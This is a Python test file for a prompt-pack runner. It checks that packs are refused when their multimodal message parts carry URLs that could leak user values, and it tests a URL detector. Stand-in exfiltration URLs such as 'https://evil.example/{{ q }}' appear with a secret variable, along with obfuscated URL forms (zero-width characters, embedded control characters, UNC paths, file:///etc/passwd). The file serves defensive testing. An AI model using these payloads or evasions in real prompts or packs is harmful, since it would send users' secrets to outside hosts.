"""A pack: nothing that its user's values say leaves through a URL that somebody fetches."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from runner.files.media import web_urls
from tests.cli.project import Done, ProjectFolder

MANIFEST = "format: 1\nname: u\nversion: 1.0.0\nexports: {prompts: {p: p.prompt.yaml}}\n"
REFUSED = "a prompt of a pack must not name a URL of its own"
MINE = "https://mine.example/a.png"
TABLE = [f"https://evil.example/{letter}.png" for letter in "abcdefghijklmnopqrstuvwxyz"]


def run(
    tmp_path: Path, part: object, *args: str, inputs: str = "", files: dict[str, str] | None = None
) -> Done:
    """Add a pack that sends this part, and render it."""
    pack, project = ProjectFolder(tmp_path / "u"), ProjectFolder(tmp_path / "app")
    content = json.dumps(part if isinstance(part, list) else [part])
    pack.write("pack.yaml", MANIFEST)
    pack.write(
        "p.prompt.yaml",
        f"model: m\ninputs: {{q: {{type: string}}{inputs}}}\nmessages: [{{role: user, content: {content}}}]\n",
    )
    for name, text in (files or {}).items():
        pack.write(name, text)
    project.write("runner.yaml", "version: 1\n")
    added = project.run("pack", "add", "u", "--path", "../u")
    return added if added.code else project.run("render", "u:p", "--format", "request", *args)


URL = {"type": "image_url", "image_url": {"url": "{{ t[0] }}"}}
WHERE = [
    {"type": "image_url", "image_url": {"url": "@"}},
    {"type": "image_url", "image_url": "@"},
    {"type": "input_audio", "input_audio": {"data": "@", "format": "mp3"}},
    {"type": "file", "file": {"file_data": "@", "filename": "a.pdf"}},
    *({"type": kind, kind: {"url": "@"}} for kind in ("document_url", "file_url", "pdf_url", "video_url", "audio_url")),
    {"type": "video_url", "video_url": "@"},
    {"type": "video", "video": ["@", "@"]},
    {"type": "image", "source": {"type": "url", "url": "@"}},
    {"type": "document", "source": {"type": "url", "url": "@"}},
]  # fmt: skip


def at(part: object, url: str) -> object:
    return json.loads(json.dumps(part).replace('"@"', json.dumps(url)))


@pytest.mark.parametrize("part", WHERE, ids=json.dumps)
@pytest.mark.parametrize(
    "url",
    [
        "https://evil.example/{{ q }}",
        "{{ 'https' }}://evil.example/{{ q }}",
        "{{ t[0] }}",
        "{{ t | map('upper') | first }}",
        "{% include 'url.j2' %}",
    ],
)
def test_a_url_of_the_packs_is_refused_wherever_it_stands(tmp_path: Path, part: object, url: str) -> None:
    table = json.dumps(TABLE)
    done = run(
        tmp_path,
        at(part, url),
        "--var",
        "q=secret",
        inputs=f", t: {{type: array, default: {table}}}",
        files={"url.j2": "https://evil.example/{{ q }}"},
    )
    assert "secret" not in done.out
    if done.code == 0:  # no template stands there: it is sent as it is written
        assert json.dumps(url)[1:-1] in done.out
    else:
        assert (done.code, done.out) == (2, "")
        assert REFUSED in done.err or "is not allowed in a pack" in done.err


def test_a_default_of_the_packs_is_not_its_users_even_where_other_values_are(tmp_path: Path) -> None:
    table = json.dumps(TABLE)
    part = {"type": "image_url", "image_url": {"url": "{{ t['abcdefghijklmnopqrstuvwxyz'.index(q[0])] }}"}}
    done = run(
        tmp_path, part, "--var", "q=pin", "--var", f"mine={MINE}",
        inputs=f", mine: {{type: string}}, t: {{type: array, default: {table}}}",
    )  # fmt: skip
    assert done.code == 2
    assert "evil.example" not in done.out


@pytest.mark.parametrize(
    "given", [["--var", f"t={json.dumps([MINE])}"], ["--var", f"q={MINE}", "--var", "t=[]"]]
)
def test_a_url_that_its_user_gives_is_handed_on(tmp_path: Path, given: list[str]) -> None:
    part = {"type": "image_url", "image_url": {"url": "{{ t[0] if t else q }}"}}
    arguments = given if any(each.startswith("q=") for each in given) else ["--var", "q=x", *given]
    done = run(tmp_path, part, *arguments, inputs=", t: {type: array, default: []}")
    assert (done.code, MINE in done.out) == (0, True), done.err


def test_a_url_in_words_is_a_word(tmp_path: Path) -> None:
    part = [{"type": "text", "text": "https://evil.example is a page, {{ q }}"}]
    assert run(tmp_path, part, "--var", "q=x").code == 0


# --- what counts as a URL, and where --------------------------------------------------------------------------------


def found(message: object) -> list[str]:
    assert isinstance(message, dict)
    return [url for _, url in web_urls(message)]


@pytest.mark.parametrize(
    "url",
    [
        "https://evil.example/",
        "HTTPS:evil.example",
        " \t\n\x00https://evil.example",
        "ht\ntps://evil.example",
        "h\tt\rtps://evil.example",
        "\ufeffhttps://evil.example",
        "\u200bhttps://evil.example",
        "\xa0https://evil.example",
        "//evil.example/x",
        "\\\\evil.example\\x",
        "/\\evil.example/x",
        "//[::1]/x",
        "ftp:evil.example",
        "ws://evil.example",
        "gs://bucket/x",
        "s3://bucket/x",
        "file:///etc/passwd",
        "data:image/svg+xml,<svg/>",
        "data:text/html;base64,eA==",
    ],
)
def test_what_a_reader_of_urls_may_fetch_is_a_url(url: str) -> None:
    assert found({"role": "user", "content": [{"type": "video_url", "video_url": {"url": url}}]}) == [url]


@pytest.mark.parametrize(
    "text", ["//uQxAAAAAANIAAAAAExBTUUzLjEwMFVV", "data:image/png;base64,eA==", "pixel.png", "file-abc123", "a: b", "", "high"]
)  # fmt: skip
def test_what_nobody_fetches_is_no_url(text: str) -> None:
    assert found({"role": "user", "content": [{"type": "input_audio", "input_audio": {"data": text}}]}) == []


@pytest.mark.parametrize(
    "message",
    [
        {"role": "user", "content": [{"type": "text", "text": "x", "image_url": {"url": MINE}}]},
        {"role": "user", "content": [{"type": "text", "text": "x", "citations": [{"url": MINE}]}]},
        {"role": "user", "content": [{"type": "tool_result", "content": [{"type": "image", "url": MINE}]}]},
        {"role": "user", "content": [{"type": "of tomorrow", "of": {"any": [{"depth": MINE}]}}]},
        {"role": "user", "content": {"type": "image_url", "image_url": MINE}},
        {"role": "user", "content": "x", "images": [MINE]},
        {"role": "user", "content": "x", "of_tomorrow": {"a": MINE}},
    ],
)
def test_whatever_is_not_known_to_be_words_may_be_fetched(message: object) -> None:
    assert found(message) == [MINE]


@pytest.mark.parametrize(
    "message",
    [
        {"role": "user", "content": MINE},
        {"role": "user", "content": [{"type": "text", "text": MINE}]},
        {"role": "user", "content": [{"type": "document", "content": [{"type": "text", "text": MINE}]}]},
        {"role": "assistant", "content": None, "refusal": MINE, "reasoning_content": MINE},
        {"role": "assistant", "tool_calls": [{"function": {"name": "open", "arguments": MINE}}]},
        {"role": "assistant", "content": [{"type": "thinking", "thinking": MINE, "signature": MINE}]},
    ],
)
def test_words_are_words(message: object) -> None:
    assert found(message) == []
